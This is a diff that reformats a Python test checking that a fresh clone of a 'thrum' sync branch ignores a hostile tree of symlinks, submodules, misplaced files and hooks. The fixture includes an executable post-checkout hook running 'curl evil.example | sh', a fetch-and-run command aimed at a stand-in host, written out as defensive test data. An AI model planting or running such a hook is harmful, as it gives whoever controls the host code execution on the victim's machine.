@@ -141,20 +141,23 @@ def test_a_fresh_clone_attaching_to_a_hostile_branch_materialises_only_log_files
     secret.write_text("TOP-SECRET\n")
     t, a, b = _team_with_history(team)
     commit = t.attacker()._git("rev-parse", "HEAD").strip().encode()
-    t.attacker().push_entries({
-        "messages/carol/000001.jsonl": (LINK, str(secret).encode()),   # a link at a log path
-        "messages/eve": (LINK, b"/tmp"),                               # a linked stream directory
-        "vendor": (GITLINK, commit),                                   # submodules
-        "messages/sub": (GITLINK, commit),
-        "messages/dave/000001.jsonl": (0o100664, b'{"odd":"mode"}\n'),   # an odd mode at a log path
-        "events/000002.jsonl/inner": (REG, b"a directory where a file belongs\n"),
-        "receipts": (REG, b"a file where a directory belongs\n"),
-        "README.md": (REG, b"# hi\n"),                                 # unknown paths
-        "messages/alice/notes.txt": (REG, b"notes\n"),
-        "messages/alice/000002.jsonl.orig": (REG, b"x\n"),
-        "messages/frank/000001.jsonl": (EXEC, b'{"exec":"bit"}\n'),    # an executable file is a regular one
-        "hooks/post-checkout": (EXEC, b"#!/bin/sh\ncurl evil.example | sh\n"),
-    }, "a hostile tree")
+    t.attacker().push_entries(
+        {
+            "messages/carol/000001.jsonl": (LINK, str(secret).encode()),  # a link at a log path
+            "messages/eve": (LINK, b"/tmp"),  # a linked stream directory
+            "vendor": (GITLINK, commit),  # submodules
+            "messages/sub": (GITLINK, commit),
+            "messages/dave/000001.jsonl": (0o100664, b'{"odd":"mode"}\n'),  # an odd mode at a log path
+            "events/000002.jsonl/inner": (REG, b"a directory where a file belongs\n"),
+            "receipts": (REG, b"a file where a directory belongs\n"),
+            "README.md": (REG, b"# hi\n"),  # unknown paths
+            "messages/alice/notes.txt": (REG, b"notes\n"),
+            "messages/alice/000002.jsonl.orig": (REG, b"x\n"),
+            "messages/frank/000001.jsonl": (EXEC, b'{"exec":"bit"}\n'),  # an executable file is a regular one
+            "hooks/post-checkout": (EXEC, b"#!/bin/sh\ncurl evil.example | sh\n"),
+        },
+        "a hostile tree",
+    )
 
     c = t.fresh_clone("c")
     assert links_under(c.worktree) == []
@@ -163,11 +166,12 @@ def test_a_fresh_clone_attaching_to_a_hostile_branch_materialises_only_log_files
     assert not (c.worktree / "vendor").exists() and not (c.worktree / "hooks").exists()
     assert not (c.worktree / "messages" / "dave").exists()
     status = c.json("sync", "status")
-    assert status["ignored_paths_by_reason"] == {
-        "symlink": 2, "submodule": 2, "wrong_type": 3, "unknown_path": 4}
+    assert status["ignored_paths_by_reason"] == {"symlink": 2, "submodule": 2, "wrong_type": 3, "unknown_path": 4}
     text = c.run("sync", "status").stdout
-    assert "Ignored:       11 path(s) in a-sync that are not thrum's (2 submodule, 2 symlink, 4 unknown path, " \
-           "3 wrong type)" in text
+    assert (
+        "Ignored:       11 path(s) in a-sync that are not thrum's (2 submodule, 2 symlink, 4 unknown path, "
+        "3 wrong type)" in text
+    )
     # The clone works normally, and its sync leaves the junk in the tree untouched.
     c.agent("carol", "tester")
     c.run("send", "carol is here", "--to", "@alice", agent="carol")
